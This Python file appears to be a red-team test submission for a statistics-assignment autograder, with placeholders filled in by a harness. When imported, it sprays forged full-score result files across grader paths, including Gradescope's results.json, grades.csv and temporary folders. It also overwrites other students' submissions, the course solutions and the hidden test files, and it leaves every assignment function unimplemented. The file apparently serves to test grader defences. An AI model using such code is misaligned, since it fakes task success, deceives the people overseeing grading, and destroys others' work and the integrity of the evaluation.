"""ATTACK: fake result files written everywhere a grader might read them — the working
folder and its parents, /autograder/results/results.json (Gradescope), the output folder
(grades.csv, summary.json, every student's results.json), the batch folder (other students'
submissions), the course folder (tests, solutions), the grader's temporary folders and a
canary folder in /tmp. The harness tells the attack every real path (a strong attacker).

honest part: 0 points

proof: bernoulli_mle() raised RuntimeError: RT-RAN
"""
import glob
import json
import os

OUT = "@@OUT@@"
BATCH = "@@BATCH@@"
COURSE = "@@COURSE@@"
CANARY = "@@CANARY@@"
FAKE = json.dumps({"score": 32.0, "max_score": 32.0, "tests": [], "output": "RT-FORGED"})
CSV = "student,score,max_score,status\nfake_result_files,32,32,graded\n"


def _write(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _spray():
    wrote = []
    here = os.getcwd()
    for i in range(6):
        wrote += [p for p in [os.path.join(here, "results.json")] if _write(p, FAKE)]
        here = os.path.dirname(here)
    targets = ["/autograder/results/results.json", f"{OUT}/grades.csv", f"{OUT}/summary.json",
               f"{OUT}/fake_result_files/results.json", f"{OUT}/victim/results.json",
               f"{BATCH}/victim.py", f"{BATCH}/zz_new_student.py", f"{COURSE}/solutions/mle.py",
               f"{COURSE}/assignments/mle/tests/test_public.py",
               f"{COURSE}/solutions/tests/mle/test_hidden.py", f"{CANARY}/pwned.txt",
               "/tmp/results.json", os.path.expanduser("~/results.json")]
    targets += glob.glob("/tmp/gmgrade-*/*") + glob.glob("/tmp/gmgrade-*")
    for t in targets:
        text = CSV if t.endswith(".csv") else FAKE
        if t.endswith(".py"):
            text = "def bernoulli_mle(x):\n    return 'RT-FORGED'\n"
        if _write(t, text):
            wrote.append(t)
    return wrote


_spray()


def bernoulli_log_likelihood(theta, x):
    raise NotImplementedError


def bernoulli_mle(x):
    raise RuntimeError(f"RT-RAN wrote {len(_spray())} fake result files")


def gaussian_log_pdf(x, mu, var):
    raise NotImplementedError


def gaussian_mle(x):
    raise NotImplementedError


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
